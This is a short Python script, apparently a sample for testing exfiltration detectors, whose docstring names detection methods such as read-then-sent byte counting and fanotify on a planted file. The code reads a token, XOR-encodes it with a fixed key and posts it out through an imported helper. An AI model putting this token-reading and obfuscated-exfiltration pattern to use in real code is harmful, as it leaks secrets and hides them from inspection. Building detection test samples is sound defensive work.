#!/usr/bin/python3
"""
Trick: Reads the token and sends it under a key that nobody else knows.
Known from: nearly every bot: XOR over strings and traffic.
First: read-then-sent: a reader of a planted file sends at least as many bytes
Second: fanotify on the planted inode
"""

from way_out import post, token

post(bytes(byte ^ 0x5A for byte in token()))
print("performed")
